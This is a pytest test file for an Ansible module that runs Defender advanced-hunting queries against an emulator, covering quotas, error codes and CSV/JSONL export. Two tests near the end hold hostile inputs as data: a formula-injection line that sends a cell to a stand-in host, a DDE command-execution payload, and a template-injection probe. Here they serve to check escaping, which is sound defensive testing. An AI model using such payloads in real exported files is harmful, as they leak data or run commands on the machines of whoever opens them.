"""Advanced hunting through the real client against the emulator: the two 429s (the call quota is waited for, the
running-time quota is not retried), each refusal's error code, and the rows as files."""

import csv
import hashlib
import io
import json

import pytest

from ansible_collections.secops.defender.plugins.module_utils._errors import DefenderActionError, DefenderApiError
from ansible_collections.secops.defender.plugins.module_utils._hunting import (
    PATH,
    hunting_result,
    render,
    run_query,
)


def hunting_calls(control):
    return [e for e in control.log() if e["path"] == PATH]


def test_a_query_returns_schema_and_rows(client, control):
    answer = run_query(client, "DeviceInfo | project DeviceId, DeviceName | order by DeviceName asc")
    assert [c["Name"] for c in answer["Schema"]] == ["DeviceId", "DeviceName"]
    assert len(answer["Results"]) == 4
    assert hunting_calls(control)[0]["hunting_query"].startswith("DeviceInfo | project")


def test_the_running_time_429_is_not_retried(client, control):
    control("POST", "/settings", {"hunting_cpu_quota": [[1, 3600]], "hunting_query_seconds": 1})
    run_query(client, "DeviceInfo | take 1")
    with pytest.raises(DefenderApiError) as caught:
        run_query(client, "DeviceInfo | take 1")
    assert caught.value.code == "HuntingCpuQuota" and caught.value.status == 429
    assert "refills in 60 minutes" in str(caught.value)
    assert [e["status"] for e in hunting_calls(control)] == [200, 429]
    assert client.budget.stats["rate_limited"] == 0  # nobody else's hunting calls were paused for it


def test_the_call_quota_429_is_waited_for(client, control, params):
    # 1 query in 5 s: the second comes sooner on any machine, however busy, so it is refused and waited out.
    control("POST", "/settings", {"rate_limits": {"advancedqueries": [[1, 5]]}})
    run_query(client, "DeviceInfo | take 1")
    run_query(client, "DeviceInfo | take 1")  # the emulator refuses it for about 5 s; the client waits it out
    statuses = [e["status"] for e in hunting_calls(control)]
    assert statuses[0] == 200 and statuses[-1] == 200 and 429 in statuses


@pytest.mark.parametrize("settings,query,code", [
    ({"hunting_query_seconds": 300}, "DeviceInfo | take 1", "HuntingTimeout"),
    ({"hunting_max_rows": 2}, "DeviceInfo", "HuntingTooManyRows"),
    ({"hunting_max_result_bytes": 100}, "DeviceInfo", "HuntingResultTooLarge"),
    ({}, "DeviceInfo | where Timestamp > ago(31d)", "HuntingOldData"),
    ({}, "DeviceInfo | join (DeviceLogonEvents) on DeviceId", "HuntingQueryRejected"),
])
def test_each_refusal_has_its_code(client, control, settings, query, code):
    if settings:
        control("POST", "/settings", settings)
    with pytest.raises(DefenderApiError) as caught:
        run_query(client, query)
    assert caught.value.code == code and caught.value.status == 400
    assert caught.value.correlation_id


def test_rows_as_jsonl_and_csv_read_back(client, tmp_path):
    params = {"queries": ["DeviceInfo | project DeviceId, DeviceName, OSBuild, IsAzureADJoined"], "dest": str(tmp_path),
              "format": "csv"}
    result = hunting_result(client, params, check_mode=False)
    row = result["results"][0]
    with open(row["dest"], "rb") as handle:
        content = handle.read()
    assert hashlib.sha256(content).hexdigest() == row["sha256"] and "results" not in row
    lines = list(csv.reader(io.StringIO(content.decode("utf-8"))))
    assert lines[0] == ["DeviceId", "DeviceName", "OSBuild", "IsAzureADJoined"] and len(lines) == 5
    again = hunting_result(client, params, check_mode=False)
    assert again["changed"] is False


def test_render_keeps_hostile_text_as_data():
    answer = {"Schema": [{"Name": "A", "Type": "String"}, {"Name": "B", "Type": "Int64"}],
              "Results": [{"A": "x,\"y\"\nz {{ 7*191 }}", "B": None}, {"A": "", "B": 3}]}
    assert [json.loads(line) for line in render(answer, "jsonl").decode().splitlines()] == answer["Results"]
    rows = list(csv.reader(io.StringIO(render(answer, "csv").decode())))
    assert rows == [["A", "B"], ["x,\"y\"\nz {{ 7*191 }}", ""], ["", "3"]]


def test_csv_cells_that_a_spreadsheet_would_run_are_escaped():
    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
               "\t=1", "\r=1"]
    answer = {"Schema": [{"Name": "A", "Type": "String"}, {"Name": "N", "Type": "Int64"}],
              "Results": [{"A": text, "N": -5} for text in hostile] + [{"A": "safe = text", "N": 1}]}
    rows = list(csv.reader(io.StringIO(render(answer, "csv").decode(), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + text for text in hostile] + ["safe = text"]
    assert [r[1] for r in rows[1:]] == ["-5"] * len(hostile) + ["1"]   # numbers are data, never changed
    kept = list(csv.reader(io.StringIO(render(answer, "csv", csv_formulas="keep").decode(), newline="")))
    assert [r[0] for r in kept[1:]] == hostile + ["safe = text"]
    assert render(answer, "jsonl") == render(answer, "jsonl", csv_formulas="escape")


def test_a_failed_query_does_not_stop_the_others(client):
    params = {"queries": ["DeviceInfo | join (DeviceInfo) on DeviceId", "DeviceInfo | take 1"]}
    with pytest.raises(DefenderActionError) as caught:
        hunting_result(client, params, check_mode=False)
    result = caught.value.result
    assert result["failed_queries"] == [0] and result["results"][1]["row_count"] == 1
    assert hunting_result(client, dict(params, fail_on_query_error=False), check_mode=True)["summary"]["failed"] == 1
